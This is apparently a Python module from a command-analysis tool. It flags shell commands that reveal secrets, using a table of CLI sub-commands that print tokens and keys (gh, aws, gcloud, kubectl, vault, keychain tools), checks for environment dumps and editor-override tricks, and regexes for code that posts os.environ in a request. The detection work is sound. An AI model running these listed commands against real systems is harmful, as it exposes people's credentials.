"""Commands that print, export or hand over secrets without naming a secret file:
environment dumps, `echo $TOKEN`, and the token-printing sub-commands of CLIs.

Data first: ``TOOLS`` maps a program to the sub-command words that reveal secrets.
``check`` runs for every simple command whose program appears in ``PROGRAMS``.
"""

from __future__ import annotations

import re

from ...lazyre import LazyRe as _LazyRe

from ..paths import UNKNOWN_MARK as U

SECRET_VAR = _LazyRe(r"(?i)(TOKEN|SECRET|PASSW(OR)?D|PASSPHRASE|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIAL|"
                        r"AUTH|SESSION_KEY|CLIENT_SECRET|DATABASE_URL|DB_URL|_DSN$|CONNECTION_STRING|WEBHOOK_URL)")
NOT_SECRET_VAR = _LazyRe(r"(?i)^(PATH|HOME|USER|SHELL|PWD|LANG|TERM|EDITOR|.*_(FILE|PATH|DIR|URL_PUBLIC|ID|NAME))$")

# program → list of (sub-command word sequence, extra condition or None, what is revealed)
TOOLS = {
    "gh": [(("auth", "token"), None, "the GitHub CLI token"),
           (("auth", "status"), ("-t", "--show-token"), "the GitHub CLI token")],
    "aws": [(("configure", "get"), None, "an AWS credential setting"),
            (("configure", "export-credentials"), None, "AWS credentials"),
            (("sts", "get-session-token"), None, "AWS session credentials"),
            (("ecr", "get-login-password"), None, "a registry password"),
            (("secretsmanager", "get-secret-value"), None, "a stored secret"),
            (("sts", "assume-role"), None, "temporary credentials"),
            (("iam", "create-access-key"), None, "a new secret access key"),
            (("ssm", "get-parameters-by-path"), ("--with-decryption",), "decrypted parameters"),
            (("ssm", "get-parameter"), ("--with-decryption",), "a decrypted parameter"),
            (("ssm", "get-parameters"), ("--with-decryption",), "decrypted parameters")],
    "gcloud": [(("auth", "print-access-token"), None, "a Google access token"),
               (("auth", "print-identity-token"), None, "a Google identity token"),
               (("auth", "application-default", "print-access-token"), None, "a Google access token"),
               (("secrets", "versions", "access"), None, "a stored secret"),
               (("iam", "service-accounts", "keys", "create"), None, "a new service-account key")],
    "az": [(("account", "get-access-token"), None, "an Azure access token"),
           (("keyvault", "secret", "show"), None, "a Key Vault secret"),
           (("storage", "account", "keys", "list"), None, "storage account keys"),
           (("webapp", "config", "appsettings", "list"), None, "app settings (keys, connection strings)"),
           (("functionapp", "config", "appsettings", "list"), None, "app settings (keys, connection strings)"),
           (("webapp", "config", "connection-string", "list"), None, "connection strings"),
           (("cosmosdb", "keys", "list"), None, "Cosmos DB keys"), (("redis", "list-keys"), None, "Redis keys"),
           (("acr", "credential", "show"), None, "registry passwords")],
    "kubectl": [(("view-secret",), None, "Kubernetes secret values"),
                (("create", "token"), None, "a service-account token"),
                (("get", "secret"), ("-o", "--output"), "Kubernetes secret values"),
                (("get", "secrets"), ("-o", "--output"), "Kubernetes secret values"),
                (("describe", "secret"), None, "a Kubernetes secret"),
                (("describe", "secrets"), None, "Kubernetes secrets"),
                (("config", "view"), ("--raw", "--flatten"), "kubeconfig credentials")],
    "oc": [(("extract",), None, "secret or config map values"),
           (("get", "secret"), ("-o", "--output"), "OpenShift secret values"),
           (("whoami",), ("-t", "--show-token"), "the OpenShift token")],
    "docker": [(("inspect",), None, "container environment variables")],
    "podman": [(("inspect",), None, "container environment variables")],
    "heroku": [(("config",), None, "app config vars"), (("auth:token",), None, "the Heroku token"),
               (("config:get",), None, "an app config var")],
    "railway": [(("variables",), None, "service variables"), (("variable", "list"), None, "service variables")],
    "vercel": [(("env", "pull"), None, "environment variables")],
    "netlify": [(("env:list",), None, "environment variables"), (("env:get",), None, "an environment variable")],
    "fly": [(("auth", "token"), None, "the Fly token")], "flyctl": [(("auth", "token"), None, "the Fly token")],
    "op": [(("read",), None, "a 1Password secret"), (("item", "get"), None, "a 1Password item"),
           (("inject",), None, "1Password secrets")],
    "vault": [(("kv", "get"), None, "a Vault secret"), (("read",), None, "a Vault secret"),
              (("token", "lookup"), None, "the Vault token"), (("print", "token"), None, "the Vault token")],
    "doppler": [(("secrets",), None, "Doppler secrets"), (("configs", "tokens"), None, "Doppler tokens"),
                (("run",), ("--command",), None)],
    "terraform": [(("output",), None, "Terraform outputs (sensitive ones included)"),
                  (("state", "pull"), None, "the Terraform state and every secret in it"),
                  (("show",), ("-json",), "the Terraform state as JSON")],
    "tofu": [(("output",), None, "OpenTofu outputs"), (("state", "pull"), None, "the OpenTofu state")],
    "rails": [(("credentials:show",), None, "Rails credentials")],
    "ansible-vault": [(("view",), None, "an Ansible vault"), (("decrypt",), None, "an Ansible vault")],
    "sops": [(("-d",), None, "a SOPS-encrypted file"), (("--decrypt",), None, "a SOPS-encrypted file"),
             (("decrypt",), None, "a SOPS-encrypted file")],
    "gpg": [(("--export-secret-keys",), None, "private keys"), (("--export-secret-subkeys",), None, "private keys")],
    "firebase": [(("login:ci",), None, "a long-lived CI token")],
    "trufflehog": [(("filesystem",), None, "every secret it finds, unmasked"), (("git",), None, "secrets it finds")],
    "gitleaks": [(("detect",), None, "the secrets it finds (without --redact)"),
                 (("dir",), None, "the secrets it finds (without --redact)")],
    "ps": [],
    "jq": [], "awk": [], "gawk": [],
    "supabase": [(("secrets", "list"), None, "project secrets"), (("projects", "api-keys"), None, "API keys")],
    "git": [(("credential", "fill"), None, "stored git credentials"),
            (("credential-store", "get"), None, "stored git credentials"),
            (("credential-cache", "get"), None, "cached git credentials"),
            (("config", "--get", "credential.helper"), None, None)],
    "security": [(("find-generic-password",), ("-w", "-g"), "a keychain password"),
                 (("find-internet-password",), ("-w", "-g"), "a keychain password"),
                 (("dump-keychain",), None, "the keychain")],
    "secret-tool": [(("lookup",), None, "a keyring secret")],
    "keyring": [(("get",), None, "a keyring secret")],
    "pass": [(("show",), None, "a pass secret")],
    "npm": [(("token", "list"), None, "npm tokens"), (("config", "get"), None, "an npm registry credential")],
    "keyctl": [(("print",), None, "a kernel keyring secret"), (("pipe",), None, "a kernel keyring secret"),
               (("read",), None, "a kernel keyring secret")],
    "chamber": [(("export",), None, "every secret of a service"), (("read",), None, "a stored secret")],
    "infisical": [(("export",), None, "secrets"), (("secrets",), None, "secrets")],
    "glab": [(("variable", "get"), None, "a CI/CD variable"), (("variable", "export"), None, "CI/CD variables")],
    "gopass": [(("show",), None, "a gopass secret"), (("cat",), None, "a gopass secret"), (("otp",), None, "a one-time code")],
    "bw": [(("get",), None, "a Bitwarden item"), (("export",), None, "the Bitwarden vault")],
    "lpass": [(("show",), None, "a LastPass secret"), (("export",), None, "the LastPass vault")],
    "kwallet-query": [(("-r",), None, "a KWallet secret"), (("--read-password",), None, "a KWallet secret")],
    "stripe": [(("config",), ("--list",), "the Stripe CLI's API keys")],
    # a chart's values are where its passwords go (postgresql.auth.password, a registry's credentials…)
    "helm": [(("get", "values"), None, "a release's values, its passwords among them"),
             (("get", "all"), None, "a release's values, its passwords among them")],
}
ENV_DUMPERS = {"env", "printenv", "export", "declare", "typeset", "set", "compgen"}
PRINTERS = {"echo", "printf", "print"}
#: interpreters whose inline code is read for a print of the environment
_ENV_INTERPRETERS = frozenset({"python", "python3", "node", "ruby", "perl", "php", "deno", "bun", "nodejs", "pypy3"})
PROGRAMS = frozenset(TOOLS) | ENV_DUMPERS | PRINTERS | _ENV_INTERPRETERS
#: jq's access to the environment: `env`, `$ENV`, `$ENV.NAME`, `env.NAME`, `$__prog_env`… (not `.env`, a field)
_JQ_ENV = _LazyRe(r"(?:^|[^.\w$])(?:\$ENV|env)\b(?:\s*\.\s*([A-Za-z_]\w*)|\s*\[\s*\"([A-Za-z_]\w*)\"\s*\])?")
_AWS_SECRET_SETTINGS = _LazyRe(r"(?i)secret|token|key_id|access_key")
# fields of a Secret or a kubeconfig that hold the credential itself
_KUBE_SECRET_FIELD = _LazyRe(r"\.data\b|stringData|\btoken\b|password|client-key|key-data|auth-provider|\.exec\b")


#: Options whose name says the command prints secret values in clear (`pulumi stack output --show-secrets`,
#: `op item get --reveal`, `aws ssm get-parameter --with-decryption`), for any program.
REVEAL_FLAGS = frozenset(("--show-secrets", "--show-secret", "--reveal", "--show-token", "--show-tokens",
                          "--with-decryption", "--show-sensitive", "--unmask", "--unmasked", "--show-password",
                          "--show-passwords", "--show-values", "--decrypt-secrets", "--plaintext-secrets"))
_NPM_SECRET_KEY = _LazyRe(r"(?i)_auth|token|password|_password|cert|key")


def reveal_flag(args):
    """The first option of ``args`` that asks for secrets in clear (REVEAL_FLAGS), else None."""
    for x in args:
        if x == "--":
            return None
        if x.startswith("--") and x.split("=", 1)[0] in REVEAL_FLAGS and not x.endswith(("=false", "=0")):
            return x.split("=", 1)[0]
    return None


def _words(args):
    return [a for a in args if not a.startswith("-")]


#: Variables that commonly hold credentials: a `grep` pattern fitting one of their names prints it.
COMMON_SECRET_VARS = ("AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID", "AWS_SESSION_TOKEN", "GITHUB_TOKEN", "GH_TOKEN",
                      "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "DATABASE_URL", "RAILWAY_TOKEN", "RAILWAY_API_TOKEN",
                      "NPM_TOKEN", "STRIPE_SECRET_KEY", "SLACK_BOT_TOKEN", "VERCEL_TOKEN", "HEROKU_API_KEY",
                      "GOOGLE_APPLICATION_CREDENTIALS", "AZURE_CLIENT_SECRET", "DOCKER_PASSWORD", "PGPASSWORD",
                      "MYSQL_PWD", "REDIS_URL", "MONGODB_URI", "SENTRY_DSN", "FLY_API_TOKEN", "CLOUDFLARE_API_TOKEN",
                      "SUPABASE_SERVICE_ROLE_KEY", "HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "SECRET_KEY", "JWT_SECRET",
                      "CI_JOB_TOKEN", "VAULT_TOKEN", "DIGITALOCEAN_ACCESS_TOKEN", "TWILIO_AUTH_TOKEN")
_NAME_PATTERN = _LazyRe(r"^\^?([A-Za-z_][A-Za-z0-9_]*)=?\$?$")  # one alternative of the filter
_GREP_FLAGS_OK = frozenset("iwEFGxsHhnoqP")
#: a plain text in a basic regular expression, anchored or not (`' () $'`): the lines holding that text
_BRE_LITERAL = _LazyRe(r"^\^?([^.*\[\]\\^$|=]*[A-Za-z0-9_()][^.*\[\]\\^$|=]*)\$?$")
#: `^\w*(?==)`, `^[A-Z_]+`: a match anchored at the line's start made only of what a name is made of (with
#: -o only the match is printed, and nothing in it can match the `=` after the name)
_NAME_ONLY_MATCH = _LazyRe(r"^\^(?:\\w|\[[A-Za-z0-9_-]+\]|[A-Za-z0-9_]|[*+?]|\{\d*,?\d*\})+(?:\(\?=\\?=\)|=)?$")


_SED_PRINT = _LazyRe(r"^/(\^?[A-Za-z_][A-Za-z0-9_]*=?)/p$")
_SED_FUNCTION = _LazyRe(r"^/\^[A-Za-z_][A-Za-z0-9_]* ?\(\)/,/\^\}/p$")


def _sed_as_grep(ws):
    """`sed -n '/^NAME/p'` prints what `grep '^NAME'` prints; `sed -n '/^NAME ()/,/^}/p'` after `set` prints
    one function's definition — the range starts only at a function's header (`set` writes a value on one
    line, `$'…\n…'`), never at a variable, whose line would run the range on through every variable after
    it (`/^BASH/,/^}/p` is no such filter).  Anything else (another script, -i, -e/-f): None."""
    if len(ws) != 3 or ws[1] != "-n":
        return None
    if _SED_FUNCTION.match(ws[2]):
        return ["function"]
    m = _SED_PRINT.match(ws[2])
    return ["grep", m.group(1)] if m else None


def env_filter_reveals(words) -> bool:
    """A filter after `env` whose pattern names a credential variable (`grep -o '^\\w*TOKEN.*'`) or that lets
    every variable through with its value (`grep -o '^\\w*=.*'`, `grep .`, `sed -n p`)."""
    if any(re.fullmatch(r"-[ABC]\d*|-\d+|--(after-|before-)?context(=\d+)?|-f|--file(=.*)?", w.strip("'\""))
           for w in words[1:]):
        return True  # context lines (`grep -A3 PATH`: the variables after it) or patterns from a file
    pats = [w.strip("'\"") for w in words[1:] if not w.startswith("-")]
    text = " ".join(pats)
    alts = [x for p in pats for x in p.replace("\\|", "|").split("|")] if pats else []
    return bool(SECRET_VAR.search(text) or re.search(r"(?i)KEY|PASS|SECRET|TOKEN", text) or
                re.search(r"=\.[*+]|=\\?S", text) or any(re.fullmatch(r"\^?[.=]?[*+]?\$?|p|/\.?\*?/p", x)
                                                          for x in pats + alts))


def env_filter(a, words):
    """What `env | grep PATTERN` (or `set | grep`, `printenv | grep`) prints: "names" when the pattern is
    plain variable names that fit no credential variable's name (in the environment the command runs in,
    or a common one) nor a credential variable's value; "secret: …" when it fits one; None when it is no
    such filter (a `grep -v`, a regular expression: everything may come out)."""
    import shlex

    try:  # the stage's words as the shell splits them (the caller splits its text at blanks)
        ws = shlex.split(" ".join(words))
    except ValueError:
        ws = [w.strip("'\"") for w in words]
    if ws and ws[0] == "sed":
        ws = _sed_as_grep(ws)
        if ws is None:
            return None
        if ws == ["function"]:
            return "names"  # `set | sed -n '/^foobar ()/,/^}/p'`: one function's definition, no variable
    if not ws or ws[0] not in ("grep", "egrep", "fgrep", "rg"):
        return None
    icase = only = ere = False
    pats = []
    i = 1
    while i < len(ws):
        w = ws[i]
        if w in ("-e", "--regexp") and i + 1 < len(ws):
            pats.append(ws[i + 1])
            i += 2
            continue
        if w.startswith("--"):
            if w in ("--ignore-case",):
                icase = True
            elif w not in ("--word-regexp", "--fixed-strings", "--extended-regexp", "--color", "--colour",
                           "--color=auto", "--color=never", "--color=always"):
                return None
        elif w.startswith("-") and len(w) > 1:
            if not set(w[1:]) <= _GREP_FLAGS_OK:
                return None  # -v prints everything else, -f reads patterns from a file…
            icase = icase or "i" in w
            only = only or "o" in w
            ere = ere or bool(set(w[1:]) & set("EP"))
        else:
            pats.append(w)
        i += 1
    if len(pats) != 1 or U in pats[0]:
        return None
    if only and _NAME_ONLY_MATCH.match(pats[0]):
        return "names"  # `set | grep -oP '^\w*X\w*(?==)'`: -o prints the match, which cannot reach past `=`
    if not only and pats[0].startswith(".*") and pats[0].endswith(".*") and len(pats[0]) > 4:
        pats[0] = pats[0][2:-2]  # `grep '.*X.*'` selects the lines `grep X` selects
    # alternatives, each a name, anchored or not: `^PATH=`, `NODE|PYTHON`, `^BROWSERSLIST|^BROWSER`
    pat = pats[0]
    # a group of alternatives behind one anchor: `^\(GOBIN\|PATH=\)`, `^(GO|HOME=)` is `^GOBIN|^PATH=`
    g = re.fullmatch(r"(\^?)(?:\\\(|\()([^()\\]*(?:\\\|[^()\\]*)*|[^()]*)(?:\\\)|\))", pat)
    if g:
        pat = "|".join(g.group(1) + x for x in g.group(2).replace("\\|", "|").split("|"))
    alts = pat.replace("\\|", "|").split("|")
    ms = [_NAME_PATTERN.match(x) or (not ere and _BRE_LITERAL.match(x)) for x in alts]
    if not all(ms):
        return None
    names = [m.group(1) for m in ms if m.group(1)]
    if not names:
        return None
    env = a.env or {}
    exact = all(x.startswith("^") and x.endswith("=") for x in alts)  # `^_=`, `^PATH=`: that one variable
    for n in names:
        key = n.lower() if icase else n
        if exact:
            fits = lambda v: (v.lower() if icase else v) in (key, key + "=")  # noqa: E731
        else:
            fits = lambda v: key in (v.lower() if icase else v)  # noqa: E731
        if SECRET_VAR.search(n) or re.search(r"(?i)KEY", n):
            return f"secret: {n}"
        for var in list(env)[:512] + list(COMMON_SECRET_VARS):
            if (fits(var) or (var in env and fits(str(env[var])[:4096]))) and SECRET_VAR.search(var) and \
                    not NOT_SECRET_VAR.match(var):
                return f"secret: {n}"
    return "names"


#: Commands that decrypt a secret into a temporary file and open it in $EDITOR (program → the sub-command
#: words; () = the program itself, `sops FILE`).  With the editor set to a program that prints its file
#: (`EDITOR=cat pass edit prod/db`), the decrypted secret is printed.
SECRET_EDITS = {"pass": ("edit",), "gopass": ("edit",), "ansible-vault": ("edit",), "rails": ("credentials:edit",),
                "sops": (), "kubectl": ("edit",), "oc": ("edit",)}
_EDITOR_VARS = ("SOPS_EDITOR", "KUBE_EDITOR", "VISUAL", "EDITOR")
_PRINTING_EDITORS = frozenset(("cat", "tac", "less", "more", "most", "head", "tail", "bat", "batcat", "nl", "tee",
                               "od", "xxd", "hexdump", "strings", "base64", "sed", "awk", "grep", "cp", "curl"))


def _editor_prints(a, cmd, scope):
    """`EDITOR=cat pass edit prod/db`, `KUBE_EDITOR=cat kubectl edit secret db`: the editor given the decrypted
    file is a program that prints (or copies, or sends) it."""
    sub = SECRET_EDITS.get(cmd.name)
    if sub is None:
        return False
    words = _words(cmd.args)
    if sub and words[:len(sub)] != list(sub):
        return False
    if cmd.name in ("kubectl", "oc") and not any(w.startswith("secret") for w in words[1:2]):
        return False
    if cmd.name == "sops" and any(x in cmd.args for x in ("-d", "--decrypt", "-e", "--encrypt", "-i", "--in-place",
                                                          "--rotate", "-r", "set", "unset", "updatekeys", "publish")):
        return False
    for var in _EDITOR_VARS:
        val = cmd.assigns.get(var)
        if val is None and scope is not None:
            val = scope.vars.get(var)
        if val and U not in val:
            prog = val.split()[0].rsplit("/", 1)[-1] if val.split() else ""
            if prog in _PRINTING_EDITORS:
                a.emit("secrets.tool-output", cmd, target=f"the decrypted secret, opened with {var}={val}",
                       effect="reveal-secret")
                return True
    return False


# ps: the BSD-style flag `e` (a dashless cluster: `ps eww`, `ps auxe`, `ps axe`) prints each process's
# environment; `-e` (with a dash) only means "every process". Words after an option that takes a value
# (`-o pcpu,pid,user,args`, `-eo sess`, `--pid 21709`, `p 123`) are a format list, a pid list, a user
# name, ... -- an `e` in them is no flag. A format list naming `environ` asks for the environment too.
_PS_VALUE_LETTERS_DASH = set("oOpugGtCsqUk")
_PS_VALUE_LETTERS_BSD = set("oOpUtkq")
_PS_VALUE_LONG = {"--pid", "--ppid", "--format", "--sort", "--user", "--User", "--group", "--Group", "--tty",
                  "--sid", "--cols", "--columns", "--rows", "--lines", "--width", "--quick-pid", "-o", "-O"}


def _ps_format_environ(value):
    return any(f.split("=")[0].strip() in ("environ", "env") for f in value.split(","))


def _ps_shows_environment(args):
    expect = None  # the option whose value comes next
    for i, x in enumerate(args):
        if expect is not None:
            if expect in "oO" and _ps_format_environ(x):
                return True
            expect = None
            continue
        if x.startswith("--"):
            opt, eq, val = x.partition("=")
            if opt in ("--format", "-o") and eq and _ps_format_environ(val):
                return True
            if not eq and opt in _PS_VALUE_LONG:
                expect = "o" if opt == "--format" else "-"
            continue
        dash = x.startswith("-")
        letters = x[1:] if dash else x
        if not dash and not letters.isalpha():
            continue  # a pid list or other operand
        value_letters = _PS_VALUE_LETTERS_DASH if dash else _PS_VALUE_LETTERS_BSD
        for j, ch in enumerate(letters):
            if ch == "e" and not dash or ch == "E" and dash:
                return True  # BSD `e`, macOS/FreeBSD `-E`: show the environment
            if ch in value_letters:
                rest = letters[j + 1:]
                if rest:
                    if ch in "oO" and _ps_format_environ(rest):
                        return True
                else:
                    expect = ch
                break
    return False


#: Credential helpers (gitcredentials(7), docker-credential-helpers): a program named with one of these prefixes,
#: asked `get`, prints the stored secret of the host it reads on stdin — whatever store is behind it (a keychain,
#: libsecret, pass, a desktop app).  `git credential-NAME get` runs `git-credential-NAME get`.
HELPER_PREFIXES = ("git-credential-", "docker-credential-")


def helper_get(name, args) -> str | None:
    """What a credential helper's `get` reveals (None when the command is no helper's get)."""
    if name == "git" and args and args[0].startswith("credential-"):
        name, args = "git-" + args[0], args[1:]
    if name.startswith(HELPER_PREFIXES) and _words(args)[:1] == ["get"]:
        return "stored git credentials" if name.startswith("git-") else "a stored container-registry credential"
    return None


def check(a, cmd, scope):
    name = cmd.name
    args = cmd.args
    what = helper_get(name, args)
    if what:
        a.emit("secrets.tool-output", cmd, target=what, effect="reveal-secret",
               note=f"a credential helper's get prints the secret ({name} {' '.join(args[:1])})")
        return
    if _editor_prints(a, cmd, scope):
        return
    if getattr(a, "suppress_env_dump", False) and name in ("env", "printenv", "set", "export", "declare"):
        return  # `env | cut -d= -f1`, `printenv | wc -l`, `env | grep DUALCASE`: names, a count, a plain name
    if name in _ENV_INTERPRETERS:
        _interpreter_env(a, cmd)
        return
    if name == "ps":
        if _ps_shows_environment(args):
            a.emit("secrets.env-dump", cmd, target="process environments", effect="reveal-secret")
        return
    if name == "jq":
        for x in args:  # `jq -n env`, `jq -n '$ENV'`, `jq -n '$ENV.RAILWAY_TOKEN'`, `jq -n 'env.GITHUB_TOKEN'`
            m = _JQ_ENV.search(x) if not x.startswith("-") else None
            var = m and (m.group(1) or m.group(2))
            if m and (not var or SECRET_VAR.search(var) and not NOT_SECRET_VAR.search(var)):
                a.emit("secrets.env-dump", cmd, target=f"${var}" if var else "the environment", effect="reveal-secret")
                break
        return
    if name in ("awk", "gawk"):
        if any("ENVIRON" in x and ("for" in x or "print ENVIRON" in x) for x in args):
            a.emit("secrets.env-dump", cmd, target="the environment", effect="reveal-secret")
        return
    if name in ("gitleaks",) and "--redact" in " ".join(args):
        return
    if name == "aws" and _words(args)[:2] == ["configure", "get"]:
        key = (_words(args)[2:3] or [""])[0]
        if not _AWS_SECRET_SETTINGS.search(key):
            return  # aws configure get region
    if name == "kubectl" and any(x.startswith(("-ojsonpath", "jsonpath", "-o=jsonpath", "--output=jsonpath",
                                               "go-template", "-ogo-template")) or x.startswith("{") for x in args):
        if not any(_KUBE_SECRET_FIELD.search(x) for x in args):
            return  # -o jsonpath='{.metadata.creationTimestamp}'
    if name == "doppler" and "--only-names" in args:
        return
    if name == "npm" and _words(args)[:2] == ["config", "get"] and not any(_NPM_SECRET_KEY.search(w) for w in _words(args)[2:]):
        return  # npm config get registry
    if reveal_flag(args):
        a.emit("secrets.tool-output", cmd, target=f"what {reveal_flag(args)} shows", effect="reveal-secret")
        return
    if name == "railway" and any(x in ("--set", "-s", "--set-from-stdin") or x.startswith("--set=") for x in args):
        return  # railway variables --set A=1 writes a variable, prints nothing
    if name in ENV_DUMPERS:
        _env_dump(a, cmd, name, args)
        return
    if name in PRINTERS:
        if getattr(a, "count_only_next", False) and not any(r for r in cmd.redirects if r):
            return  # `echo $TOKEN | wc -c`, `printf %s "$KEY" | grep -q .`: a count or a status, not the value
        _printer(a, cmd)
        return
    if name in ("docker", "podman") and _words(args)[:1] == ["inspect"]:
        fmt = _format_arg(args)
        if fmt is not None and "Env" not in fmt and "json" not in fmt:
            return  # --format '{{.State.Status}}' prints what it names, not the environment
    tools = TOOLS.get(name)
    if not tools:
        return
    words = _words(args)
    kube_ops = _kubectl_ops(args) if name == "kubectl" else None
    for seq, cond, what in tools:
        if what is None:
            continue
        flag_form = seq[0].startswith("-") and seq[0] in args
        if flag_form or tuple(words[:len(seq)]) == seq or (kube_ops is not None and tuple(kube_ops[:len(seq)]) == seq):
            if cond is None or any(x in args or any(x2.startswith(c + "=") for x2 in args) or
                                   (c == "-o" and any(x2.startswith("-o") and len(x2) > 2 for x2 in args))
                                   for c in cond for x in (c,) for x2 in (args or [""])):
                a.emit("secrets.tool-output", cmd, target=what, effect="reveal-secret")
                return


def _kubectl_ops(args):
    """kubectl's operands, without the values of -n / --namespace / --context."""
    return _words([x for i, x in enumerate(args) if not (i and args[i - 1] in ("-n", "--namespace", "--context"))])


def _env_dump(a, cmd, name, args):
    grep = getattr(a, "env_grep", None)
    if grep and grep.startswith("secret: ") and name in ("env", "printenv", "set", "export", "declare", "typeset"):
        # `env | grep TOKEN`: what comes out is the credential variables that pattern fits
        if name != "env" or not any(not x.startswith("-") and "=" not in x for x in args):
            a.emit("secrets.env-dump", cmd, target=f"variables matching {grep[8:]}", effect="reveal-secret")
            return
    if getattr(a, "env_filtered", False) and name in ("env", "printenv", "set"):
        if not any(not x.startswith("-") and (name != "env" or "=" not in x) for x in args):
            a.emit("secrets.env-filtered", cmd, target="the environment, filtered", effect="reveal-secret")
            return
    if name == "env":
        # `env CMD ...` runs a command (handled as a wrapper); bare `env` / `env -0` prints everything
        # (the word after -u/--unset or -C/--chdir is a variable's name or a directory, not a command:
        # `env -u PATH` prints every other variable)
        words = [x for i, x in enumerate(args) if not (i and args[i - 1] in ("-u", "--unset", "-C", "--chdir"))]
        if any(not x.startswith("-") and "=" not in x for x in words):
            return
        if any(x in ("-", "--ignore-environment") or x.startswith("-") and not x.startswith("--") and "i" in x[1:]
               for x in args):
            return  # `env -i`, `env - A=1`: an empty environment, printed with only the assignments written here
        a.emit("secrets.env-dump", cmd, target="the environment", effect="reveal-secret")
    elif name == "printenv":
        names = _words(args)
        if not names or any(SECRET_VAR.search(n) and not NOT_SECRET_VAR.match(n) for n in names):
            a.emit("secrets.env-dump", cmd, target=" ".join(names) or "the environment", effect="reveal-secret")
    elif name in ("export", "declare", "typeset"):
        if args in (["-p"], ["-x"], ["-px"], ["-xp"], ["-p", "-x"]) or (name == "export" and not args):
            a.emit("secrets.env-dump", cmd, target="exported variables", effect="reveal-secret")
    elif name == "set" and not args:
        a.emit("secrets.env-dump", cmd, target="all shell variables", effect="reveal-secret")
    elif name == "compgen" and "-v" in args:
        return


_VAR_REF = _LazyRe(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
_INDIRECT = _LazyRe(r"\$\{![A-Za-z_][A-Za-z0-9_]*\}")  # ${!v}: the value of the variable named by $v
_NAME_LISTERS = _LazyRe(r"\bcompgen\b|\bprintenv\b|\benv\b\s*(?:\||$|;|\))|\bdeclare\s+-[a-zA-Z]*[px]|"
                        r"\bexport\s+-p\b|\bset\b\s*(?:\||$)")


def _printer(a, cmd):
    text = re.sub(r"'[^']*'", "''", cmd.text or "")  # single quotes: nothing is expanded
    if "$" not in text:
        return
    if "${!" in text and _INDIRECT.search(text):
        # `for v in $(compgen -v); do echo "$v=${!v}"; done`: the value of every variable, by name
        root = a._sources[0].decode("utf-8", "replace") if a._sources else ""
        if _NAME_LISTERS.search(root):
            a.emit("secrets.env-dump", cmd, target="every variable (indirect expansion)", effect="reveal-secret")
            return
    for m in _VAR_REF.finditer(text):
        n = m.group(1)
        if SECRET_VAR.search(n) and not NOT_SECRET_VAR.match(n):
            # ${#TOKEN} (length) and ${TOKEN:+set} reveal nothing
            after = text[m.end():m.end() + 2]
            before = text[max(0, m.start() - 1):m.start() + 2]
            if before.startswith("${#") or after.startswith(":+") or after.startswith("+"):
                continue
            a.emit("secrets.env-dump", cmd, target=f"${n}", effect="reveal-secret")
            return


def _format_arg(args):
    for i, x in enumerate(args):
        if x in ("-f", "--format") and i + 1 < len(args):
            return args[i + 1]
        if x.startswith("--format="):
            return x.split("=", 1)[1]
    return None


_PY_ENV_ALL = _LazyRe(r"(print|json\.dumps|pprint|repr|str)\s*\(\s*(dict\(\s*)?os\.environ\s*\)|os\.environ\.items\(\)"
                         r"|console\.(log|dir)\s*\(\s*process\.env\s*\)|JSON\.stringify\(\s*process\.env|"
                         r"ENV\.to_h|ENV\.each|keys\s+%ENV|each\s+%ENV|print\s+%ENV"
                         # Ruby `p ENV`, `puts ENV.inspect`; PHP `getenv()` (every variable), `print_r($_ENV)`,
                         # `var_dump($_SERVER)`, `phpinfo()`; Deno/Bun/Vite `…env.toObject()`, `console.log(Bun.env)`
                         r"|\b(?:p|pp|puts|print)\s*\(?\s*ENV\s*(?:\)|$|;|'|\.(?:to_h|to_a|inspect))"
                         r"|ENV\.(?:to_a|inspect|each_pair|map|select|filter|reject|sort)\b"
                         r"|getenv\(\s*\)|(?:print_r|var_dump|var_export|json_encode|print|echo)\s*\(?\s*\$_(?:ENV|SERVER)"
                         r"\b\s*(?!\s*\[)|phpinfo\(\s*\)|Deno\.env\.toObject\(\)"
                         r"|(?:console\.(?:log|dir)|JSON\.stringify)\s*\(\s*(?:Bun|import\.meta)\.env\s*\)")
# the whole environment handed to a request: `requests.post(u, json=dict(os.environ))`, `data=os.environ.copy()`,
# `urlencode(os.environ)`, `body: JSON.stringify({...process.env})`, Ruby's `post_form(uri, ENV.to_h)`
_ENV_SENT = _LazyRe(r"(?:\b(?:json|data|params|body|content|files)\s*[=:]\s*|urlencode\(\s*|post_form\([^,()]*,\s*)"
                    r"(?:dict\(\s*|\{\s*\*\*\s*|\{\s*\.\.\.\s*)?(?:os\.environ|process\.env|ENV)\b(?!\s*[\[.](?!copy\(|to_h\b))"
                    r"|JSON\.stringify\(\s*\{\s*\.\.\.\s*process\.env\b(?!\s*[\[.])")
_ENV_KEYED = _LazyRe(r"""os\.environ\s*\[\s*['"]([A-Za-z_][A-Za-z0-9_]*)|os\.(?:environ\.get|getenv)\s*\(\s*['"]"""
                        r"""([A-Za-z_][A-Za-z0-9_]*)|process\.env\.([A-Za-z_][A-Za-z0-9_]*)|process\.env\[['"]"""
                        r"""([A-Za-z_][A-Za-z0-9_]*)|ENV\[['"]([A-Za-z_][A-Za-z0-9_]*)|\$ENV\{['"]?([A-Za-z_][A-Za-z0-9_]*)""")
# what only says whether a variable is set, or how long it is
_TESTED_BEFORE = _LazyRe(r"(?:\bBoolean\(|\bbool\(|\blen\(|!!|\btypeof\s+|\bdefined\(|\bisset\(|\bexists\s+)\s*$")
_TESTED_AFTER = _LazyRe(r"(?:is\s+(?:not\s+)?None\b|[!=]==?\s*(?:null|undefined|None|nil)\b|\?*\.length\b|\.nil\?|"
                        r"\.(?:empty|present)\?)")
_PRINTS = _LazyRe(r"print|console\.|puts|\bp\s|pprint|json\.dumps|sys\.stdout|-p\b|--print")


def _interpreter_env(a, cmd):
    """`python -c 'print(os.environ)'`, `node -p process.env.STRIPE_KEY`: printing the environment."""
    text = cmd.text or ""
    from .. import anyeffects

    if any(w in text for w in anyeffects.STORE_WORDS):
        store = anyeffects.secret_store(text)
        if store:
            a.emit("secrets.tool-output", cmd, target="a secret from the OS keyring or a password store",
                   effect="reveal-secret", note=f"the program calls {store}")
            return
    if not re.search(r"environ|env|ENV|phpinfo|_SERVER", text):
        return
    if _ENV_SENT.search(text):
        a.emit("secrets.env-dump", cmd, target="the environment", effect="send-secret",
               note="the program sends every environment variable in a request")
        return
